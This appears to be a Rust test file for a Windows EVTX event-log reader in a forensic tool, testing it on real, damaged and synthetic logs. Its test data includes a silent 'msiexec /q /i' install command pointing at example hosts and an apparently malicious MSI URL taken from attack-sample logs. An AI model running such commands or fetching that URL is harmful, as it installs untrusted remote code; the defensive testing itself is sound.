//! The reader against real logs, whole and damaged.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use proptest::prelude::*;

use super::*;
use crate::corpus::evtx_writer::{Datum, EventSpec, EvtxWriter, Value};

/// The shared corpora, where this machine has them.
#[allow(clippy::print_stderr, reason = "a test that is skipped says so")]
fn corpora() -> Option<PathBuf> {
    let root = std::env::var_os("COLDSWEEP_SHARED")
        .map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared"), PathBuf::from);
    let corpora = root.join("corpora");
    if corpora.is_dir() {
        return Some(corpora);
    }
    eprintln!("skipped: no {}", corpora.display());
    None
}

/// Every EVTX file of the corpora by its name in the manifest.
fn logs(corpora: &Path) -> Vec<(String, Vec<u8>)> {
    let mut logs = Vec::new();
    for folder in ["damaged", "evtx"] {
        for entry in fs::read_dir(corpora.join(folder)).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_some_and(|ext| ext == "evtx") {
                let name = path.file_name().unwrap().to_str().unwrap();
                logs.push((format!("{folder}/{name}"), fs::read(&path).unwrap()));
            }
        }
    }
    logs.sort();
    logs
}

/// Number and text of every record, in order; every finding.
fn read(log: &[u8]) -> (Vec<(u64, String)>, Vec<Finding>) {
    let mut reader = ChunkReader::new();
    let (mut records, mut findings) = (Vec::new(), Vec::new());
    for slot in chunks(log).filter(|slot| slot.state != SlotState::Empty) {
        reader.records(
            &log[slot.offset..slot.offset + slot.len],
            Wanted::All,
            &mut |record| records.push((record.number, record.xml.to_owned())),
            &mut |finding| findings.push(finding),
        );
    }
    (records, findings)
}

/// Events and decoding errors of each file, as MANIFEST.md has them.
fn manifest(corpora: &Path) -> BTreeMap<String, (usize, usize)> {
    let text = fs::read_to_string(corpora.join("MANIFEST.md")).unwrap();
    let rows = text.lines().filter_map(|line| {
        let cells: Vec<_> = line.split('|').map(str::trim).collect();
        let errors = cells.get(12)?.rsplit(':').next()?.parse().ok()?;
        Some(((*cells.get(1)?).to_owned(), (cells.get(6)?.parse().ok()?, errors)))
    });
    rows.collect()
}

#[test]
fn every_record_of_the_corpora_is_read_or_reported() {
    let Some(corpora) = corpora() else { return };
    // Where the manifest's program and this one differ, and why.
    let explained = BTreeMap::from([
        // The cut chunk's records that are whole are read; the cut one is reported.
        ("damaged/derived_rogue_cut_after_hit.evtx", (350, 1)),
        // A chunk that lost its magic alone is read.
        ("damaged/derived_rogue_first_chunk_magic_lost.evtx", (351, 0)),
        // The header tells of 20 records, and after 6 there are only zeros.
        ("damaged/real_Microsoft-Windows-HelloForBusiness_Operational.evtx", (6, 1)),
        // Eight slots that hold no chunk, which `check_chunk` reports.
        ("damaged/real_sysmon.evtx", (358, 0)),
    ]);
    let manifest = manifest(&corpora);
    let mut files = 0;
    for (name, log) in logs(&corpora) {
        let (records, findings) = read(&log);
        let expected = explained.get(name.as_str()).copied().unwrap_or(manifest[&name]);
        assert_eq!((records.len(), findings.len()), expected, "{name}: {findings:#?}");
        files += 1;
    }
    assert_eq!(files, manifest.keys().filter(|name| name.ends_with(".evtx")).count());
}

#[test]
fn chunks_of_the_corpora_are_checked() {
    let Some(corpora) = corpora() else { return };
    // How many warnings and errors there are; a file that is not named has none.
    let expected = BTreeMap::from([
        ("damaged/derived_rogue_cut_after_hit.evtx", (0, 1)),
        ("damaged/derived_rogue_dirty_header.evtx", (1, 0)),
        ("damaged/derived_rogue_first_chunk_magic_lost.evtx", (0, 1)),
        (
            "damaged/real_2-vss_0-Microsoft-Windows-RemoteDesktopServices-RdpCoreTS_Operational.evtx",
            (2, 0),
        ),
        ("damaged/real_Microsoft-Windows-HelloForBusiness_Operational.evtx", (1, 0)),
        ("damaged/real_security_bad_string_cache.evtx", (1, 0)),
        ("damaged/real_sysmon.evtx", (0, 8)),
    ]);
    for (name, log) in logs(&corpora) {
        let header = FileHeader::parse(&log);
        let mut findings: Vec<_> = check_file_header(&log).into_iter().collect();
        for slot in chunks(&log).filter(|slot| slot.state != SlotState::Empty) {
            findings
                .extend(check_chunk(&log[slot.offset..slot.offset + slot.len], header.as_ref()));
        }
        let warnings = findings.iter().filter(|f| f.severity == Severity::Warning).count();
        let count = (warnings, findings.len() - warnings);
        let expected = expected.get(name.as_str()).copied().unwrap_or_default();
        assert_eq!(count, expected, "{name}: {findings:#?}");
    }
}

/// What the reference files have that Windows has otherwise, and the other way round: the
/// program that made them keeps six decimals, and renders some GUIDs without braces or in upper
/// case, control characters as they are, and elements that depend on a value that is not there.
fn comparable(xml: &str) -> String {
    let mut text = xml.replace("<Binary></Binary>", "").replace('\u{3}', "_");
    for before in ["SystemTime='", "'PreviousTime'>", "'NewTime'>"] {
        let Some(at) = text.find(before) else { continue };
        let micros = at + before.len() + "2000-01-01T00:00:00.000000".len();
        let end = text[micros..].find('Z').unwrap();
        text.replace_range(micros..micros + end, "");
    }
    text.replace(
        ">{00000000-0000-0000-0000-000000000000}<",
        ">00000000-0000-0000-0000-000000000000<",
    )
    .replace("{54849625-5478-4994-A5BA-3E3B0328C30D}", "{54849625-5478-4994-a5ba-3e3b0328c30d}")
}

#[test]
fn texts_are_those_of_an_independent_program() {
    let Some(corpora) = corpora() else { return };
    for (log, reference) in [
        ("evtx/derived_4688_bits", "derived_bits"),
        ("evtx/derived_4688_powersploit", "derived_powersploit"),
        ("evtx/derived_4688_psattack", "derived_psattack"),
        ("evtx/derived_4688_service_abuse", "derived_service_abuse"),
        ("evtx/derived_rogue_msi_url_1040_1042", "derived_rogue_msi"),
        ("damaged/real_security_bad_string_cache", "real_security"),
    ] {
        let log = fs::read(corpora.join(log).with_extension("evtx")).unwrap();
        let text = fs::read_to_string(corpora.join(format!("xml/{reference}.xml"))).unwrap();
        let (records, _) = read(&log);
        let reference: Vec<_> = text.split_inclusive("</Event>").map(str::trim_start).collect();
        assert_eq!(reference.iter().filter(|event| !event.is_empty()).count(), records.len());
        for ((number, xml), reference) in records.iter().zip(reference) {
            assert_eq!(comparable(xml), comparable(reference), "record {number}");
        }
    }
}

#[test]
fn the_hits_of_the_seed_rule_are_read() {
    let Some(corpora) = corpora() else { return };
    let expected = fs::read_to_string(corpora.join("expected.jsonl")).unwrap();
    let mut events = 0;
    for line in expected.lines() {
        let group: serde_json::Value = serde_json::from_str(line).unwrap();
        let name = group["file"].as_str().unwrap();
        if !name.ends_with(".evtx") {
            continue;
        }
        let (records, _) = read(&fs::read(corpora.join(name)).unwrap());
        for event in group["events"].as_array().unwrap() {
            let number: u64 = event["record"].as_str().unwrap().parse().unwrap();
            let (_, xml) = records.iter().find(|(n, _)| *n == number).expect(name);
            let process = event["process"].as_str().map(|process| process.replace('&', "&amp;"));
            let url = "http://officemysuppbox.com/statereposi.msi";
            assert!(xml.contains(process.as_deref().unwrap_or(url)), "{name}: {number}");
            events += 1;
        }
    }
    assert!(events >= 9, "{events}");
}

#[test]
fn a_record_before_a_cut_is_read() {
    let Some(corpora) = corpora() else { return };
    let log = fs::read(corpora.join("damaged/derived_rogue_cut_after_hit.evtx")).unwrap();
    let (records, findings) = read(&log);
    let url = "http://officemysuppbox.com/statereposi.msi";
    let hit = records.iter().filter(|(_, xml)| xml.contains(url)).collect::<Vec<_>>();
    assert!(matches!(hit[..], [(3734, xml)] if xml.contains(">1040</EventID>")), "{hit:?}");
    assert_eq!(
        findings[0].damage.reason,
        "the file ends within a chunk: its last records are cut off"
    );
}

/// Where `part` stands in `chunk`, as UTF-16LE or with one byte a character.
fn hits(chunk: &[u8], part: &str) -> Vec<usize> {
    let wide: Vec<u8> = part.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let narrow: Vec<u8> = part.chars().filter_map(|c| u8::try_from(u32::from(c)).ok()).collect();
    let mut hits: Vec<usize> = memchr::memmem::find_iter(chunk, &wide).collect();
    hits.extend(memchr::memmem::find_iter(chunk, &narrow));
    hits
}

/// Some literals that stand in a record's text: pieces of it, from anywhere, of any length.
fn literals(xml: &str, seed: u64) -> Vec<&str> {
    let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    let mut random = move |below: usize| {
        state =
            state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize % below.max(1)
    };
    (0..4)
        .filter_map(|_| {
            let start = random(xml.len());
            xml.get(start..(start + 3 + random(40)).min(xml.len()))
        })
        .collect()
}

/// The law of the reader: decoding by hits misses no record whose text has the literal, gives
/// the same texts as decoding all, and a chunk without hits may be skipped if it says so.
fn assert_sound(reader: &mut ChunkReader, chunk: &[u8], name: &str) -> (usize, usize) {
    let mut all = Vec::new();
    let mut push = |record: Record<'_>| all.push((record.offset, record.xml.to_owned()));
    reader.records(chunk, Wanted::All, &mut push, &mut |_| {});
    let must = reader.must_decode(chunk);
    let (mut decoded, mut whole) = (0, 0);
    for (offset, xml) in all.iter().step_by(1 + all.len() / 4) {
        for literal in literals(xml, *offset as u64) {
            for part in verbatim_parts(literal, Text::Raw) {
                let hits = hits(chunk, part);
                assert!(must || !hits.is_empty(), "{name}: no hit of {part:?} of {literal:?}");
                let mut some = Vec::new();
                let mut push =
                    |record: Record<'_>| some.push((record.offset, record.xml.to_owned()));
                reader.records(chunk, Wanted::Hits(&hits), &mut push, &mut |_| {});
                let mut others = all.iter();
                assert!(
                    some.iter().all(|record| others.any(|other| other == record)),
                    "{name}: other texts than all"
                );
                for record in all.iter().filter(|(_, xml)| xml.contains(literal)) {
                    assert!(some.contains(record), "{name}: {literal:?} of {record:?} missed");
                }
                decoded += some.len();
                whole += all.len();
            }
        }
    }
    (decoded, whole)
}

#[test]
fn hits_find_what_decoding_all_finds() {
    let Some(corpora) = corpora() else { return };
    let mut reader = ChunkReader::new();
    let (mut decoded, mut whole) = (0, 0);
    for (name, log) in logs(&corpora) {
        for slot in chunks(&log).filter(|slot| slot.state != SlotState::Empty).step_by(7) {
            let chunk = &log[slot.offset..slot.offset + slot.len];
            let counts = assert_sound(&mut reader, chunk, &name);
            decoded += counts.0;
            whole += counts.1;
        }
    }
    assert!(decoded > 0 && decoded < whole, "{decoded} of {whole} records were decoded");
}

/// A log of `count` events, some of which have a URL.
fn written(count: u64) -> Vec<u8> {
    let mut writer = EvtxWriter::new(std::io::Cursor::new(Vec::new())).unwrap();
    for record_id in 1..=count {
        let url = format!("msiexec.exe /q /i http://host{record_id}.example/a&b.msi");
        let text = if record_id % 5 == 0 { &url } else { "C:\\Windows\\explorer.exe" };
        let named = [
            Datum { name: Some("SubjectUserName"), value: Value::Text("admin\u{7}") },
            Datum { name: Some("CommandLine"), value: Value::Text(text) },
            Datum { name: Some("NewProcessId"), value: Value::Hex(record_id) },
        ];
        let unnamed =
            [text, "(NULL)", ""].map(|text| Datum { name: None, value: Value::Text(text) });
        let (event_id, data) = if record_id % 3 == 0 { (1040, &unnamed) } else { (4688, &named) };
        writer.write(&EventSpec { event_id, record_id, data, ..EventSpec::default() }).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// The slots of a log, read; no byte may make the reader panic or hang.
fn numbers(log: &[u8]) -> Vec<u64> {
    read(log).0.iter().map(|(number, _)| *number).collect()
}

#[test]
fn cut_anywhere_the_records_before_the_cut_are_read() {
    let log = written(400);
    let chunk_count = chunks(&log).count();
    assert!(chunk_count >= 3, "{chunk_count}");
    let mut records = Vec::new();
    walk::find_records(&log[FILE_HEADER_LEN..][..CHUNK_LEN], &mut records, &mut |_| {});
    let first = records.iter().take(3).chain(records.iter().rev().take(2));
    let edges = first
        .flat_map(|r| [r.offset, r.offset + 4, r.offset + 24, r.offset + 60, r.end() - 4, r.end()]);
    let header = [0, 7, 8, 100, 4095, 4096, 4097, 4096 + 8, 4096 + 48, 4096 + 511];
    for cut in header.into_iter().chain(edges.flat_map(|at| {
        let at = FILE_HEADER_LEN + at;
        [at - 1, at, at + 1]
    })) {
        let whole = records.iter().filter(|r| FILE_HEADER_LEN + r.end() <= cut).count();
        let log = &log[..cut];
        assert_eq!(numbers(log).len(), whole, "cut at {cut}");
        // The cut is told of: by the file's header, or by the chunk.
        let told = check_file_header(log).is_some()
            || chunks(log).any(|s| !check_chunk(&log[s.offset..s.offset + s.len], None).is_empty());
        assert_eq!(told, cut != 4096, "cut at {cut}");
    }
}

#[test]
fn a_broken_record_costs_no_other() {
    let log = written(100);
    let mut records = Vec::new();
    walk::find_records(&log[FILE_HEADER_LEN..][..CHUNK_LEN], &mut records, &mut |_| {});
    // None that holds the chunk's templates.
    let victim = records[10];
    let at = FILE_HEADER_LEN + victim.offset;
    let intact = numbers(&log);
    type Break = (&'static str, usize, Vec<u8>, &'static str);
    let breaks: Vec<Break> = vec![
        ("its magic", 0, vec![1], "no record starts where one should"),
        ("a size of 0", 4, vec![0; 4], "the size of a record, 0, is wrong"),
        ("a size too small", 4, vec![27, 0, 0, 0], "the size of a record, 27, is wrong"),
        ("a size too large", 4, vec![0xff; 4], "the size of a record, 4294967295, is wrong"),
        ("its template", 34, vec![0xff; 4], "cannot be decoded"),
        ("its stream", 28, vec![0x77], "cannot be decoded"),
        ("all of it", 0, vec![0; victim.len], "no record starts where one should"),
    ];
    for (name, offset, bytes, reason) in breaks {
        let mut log = log.clone();
        log[at + offset..at + offset + bytes.len()].copy_from_slice(&bytes);
        let (records, findings) = read(&log);
        let left: Vec<_> = intact.iter().copied().filter(|&number| number != 11).collect();
        assert_eq!(records.iter().map(|r| r.0).collect::<Vec<_>>(), left, "{name}");
        assert_eq!(findings.len(), 1, "{name}: {findings:?}");
        let damage = &findings[0].damage;
        assert_eq!(damage.span.start, victim.offset, "{name}");
        assert!(damage.reason.contains(reason), "{name}: {}", damage.reason);
        let chunk = &log[FILE_HEADER_LEN..][..CHUNK_LEN];
        assert!(ChunkReader::new().must_decode(chunk), "{name}: not to be skipped");
        assert!(!check_chunk(chunk, None).is_empty(), "{name}: the checksum tells");
    }
}

#[test]
fn a_few_bytes_between_records_are_stepped_over() {
    let log = written(100);
    let chunk = &log[FILE_HEADER_LEN..][..CHUNK_LEN];
    let mut records = Vec::new();
    walk::find_records(chunk, &mut records, &mut |_| {});
    for (junk, after) in [(1, 20), (9, 20), (27, 20), (28, 20), (40, 30)] {
        // No record from `after` on holds a template, so that they can be anywhere.
        let at = records[after].offset;
        let mut moved = chunk[..at].to_vec();
        moved.extend_from_slice(&vec![0xAB; junk]);
        moved.extend_from_slice(&chunk[at..CHUNK_LEN - junk]);
        for field in [44, 48] {
            let end = u32::from_le_bytes(moved[field..field + 4].try_into().unwrap());
            moved[field..field + 4].copy_from_slice(&(end + junk as u32).to_le_bytes());
        }
        let count = |wanted: Wanted<'_>| {
            let (mut numbers, mut spans) = (Vec::new(), Vec::new());
            let mut push = |record: Record<'_>| numbers.push(record.number);
            let mut note = |finding: Finding| spans.push(finding.damage.span);
            ChunkReader::new().records(&moved, wanted, &mut push, &mut note);
            assert_eq!(spans.len(), 1, "{spans:?}");
            assert_eq!((spans[0].start, spans[0].end), (at, at + junk));
            numbers
        };
        assert_eq!(count(Wanted::All), numbers(&log[..FILE_HEADER_LEN + CHUNK_LEN]));
        let values = at + junk + 150;
        assert_eq!(count(Wanted::Hits(&[values, 512 + 8])), [1, after as u64 + 1]);
    }
}

#[test]
fn times_and_numbers_that_the_decoder_refuses_cost_nothing() {
    let mut log = written(100);
    let mut records = Vec::new();
    walk::find_records(&log[FILE_HEADER_LEN..][..CHUNK_LEN], &mut records, &mut |_| {});
    let intact = numbers(&log);
    for (record, field, value) in [(3, 16, u64::MAX), (5, 8, u64::MAX), (8, 8, 100)] {
        let at = FILE_HEADER_LEN + records[record].offset + field;
        log[at..at + 8].copy_from_slice(&value.to_le_bytes());
    }
    assert_eq!(numbers(&log), intact);
}

/// A glance may be plain only where the survey is, whatever chunks it has seen.
#[test]
fn a_glance_agrees_with_the_survey_on_the_corpora() {
    let Some(corpora) = corpora() else { return };
    let mut reader = ChunkReader::new();
    let (mut chunks_seen, mut answered) = (0, 0);
    let mut random = 1u64;
    for (name, log) in logs(&corpora) {
        for slot in chunks(&log).filter(|slot| slot.state != SlotState::Empty) {
            let chunk = &log[slot.offset..slot.offset + slot.len];
            let (sound, plain) = reader.glance_is_sound(chunk);
            assert!(sound, "{name} at {}", slot.offset);
            chunks_seen += 1;
            answered += usize::from(plain);
            for round in 0..8 {
                let mut edited = chunk.to_vec();
                for _ in 0..3 {
                    random = random.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                    let at = (random >> 33) as usize % edited.len().min(4096 << (round % 5));
                    edited[at] = (random >> 56) as u8 >> (round % 5);
                }
                assert!(reader.glance_is_sound(&edited).0, "{name} at {}, edited", slot.offset);
            }
        }
    }
    assert!(answered * 2 > chunks_seen, "{answered} of {chunks_seen} chunks at a glance");
}

#[test]
fn a_template_with_a_known_guid_and_other_bytes_is_not_taken_for_it() {
    let log = written(3);
    let chunk = &log[FILE_HEADER_LEN..];
    let mut reader = ChunkReader::new();
    assert_eq!(reader.glance_is_sound(chunk), (true, true));
    // The first template, each of its bytes changed in turn.
    let at = CHUNK_HEADER_LEN + walk::RECORD_HEADER_LEN + 4 + 10;
    let size = bytes::u32_at(chunk, at + 20).unwrap() as usize;
    let mut refused = 0;
    for edit in at + 24..at + 24 + size {
        let mut edited = chunk.to_vec();
        edited[edit] ^= 0x0d;
        let (sound, plain) = reader.glance_is_sound(&edited);
        assert!(sound, "byte {edit}");
        refused += usize::from(!plain);
        assert_eq!(reader.glance_is_sound(chunk), (true, true), "byte {edit}");
    }
    assert!(refused > 50, "{refused}");
}

#[test]
fn sniffs_logs_and_nothing_else() {
    let log = written(1);
    let mut zeroed = log.clone();
    zeroed[..FILE_HEADER_LEN].fill(0);
    for (name, head, expected) in [
        ("a log", &log[..16], true),
        ("a chunk", &log[FILE_HEADER_LEN..FILE_HEADER_LEN + 9], true),
        ("a log without its header", &zeroed[..], true),
        ("zeros", &zeroed[..FILE_HEADER_LEN], false),
        ("text", b"<Event xmlns=", false),
        ("nothing", b"", false),
        ("cut", b"ElfFile", false),
    ] {
        assert_eq!(sniff(head), expected, "{name}");
    }
    assert_eq!(numbers(&zeroed), [1]);
    assert_eq!(numbers(&log[FILE_HEADER_LEN..]), [1]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Whatever bytes change: no panic, decoding by hits stays sound, and each record found is
    /// read or reported once.
    #[test]
    fn damaged_chunks_stay_sound(
        count in 1u64..150,
        edits in proptest::collection::vec((0usize..CHUNK_LEN, any::<u32>(), 0usize..5), 1..8),
        near in any::<bool>(),
        cut in proptest::option::of(0usize..CHUNK_LEN),
    ) {
        let log = written(count);
        let mut chunk = log[FILE_HEADER_LEN..][..CHUNK_LEN].to_vec();
        for (at, value, len) in edits {
            // Half of the cases change the start of the chunk, where its templates stand.
            let at = if near { at % 4096 } else { at };
            let end = (at + len).min(chunk.len());
            // Small numbers are offsets, sizes and tokens: those hurt most.
            let value = if value & 1 == 0 { value >> 1 & 0xff } else { value >> 1 & 0xffff };
            chunk[at..end].copy_from_slice(&value.to_le_bytes()[..end - at]);
        }
        chunk.truncate(cut.unwrap_or(CHUNK_LEN));
        let mut reader = ChunkReader::new();
        let intact = &log[FILE_HEADER_LEN..][..CHUNK_LEN];
        prop_assert_eq!(reader.glance_is_sound(intact), (true, true));
        prop_assert!(reader.glance_is_sound(&chunk).0, "a wrong glance");
        prop_assert_eq!(reader.glance_is_sound(intact), (true, true));
        assert_sound(&mut reader, &chunk, "damaged");
        let mut found = Vec::new();
        walk::find_records(&chunk, &mut found, &mut |_| {});
        let mut seen = Vec::new();
        let mut reported = Vec::new();
        reader.records(&chunk, Wanted::All, &mut |r| seen.push(r.offset), &mut |f| reported.push(f.damage));
        seen.extend(reported.iter().filter(|d| d.reason.contains("cannot be decoded")).map(|d| d.span.start));
        seen.sort_unstable();
        prop_assert_eq!(seen, found.iter().map(|r| r.offset).collect::<Vec<_>>());
    }
}
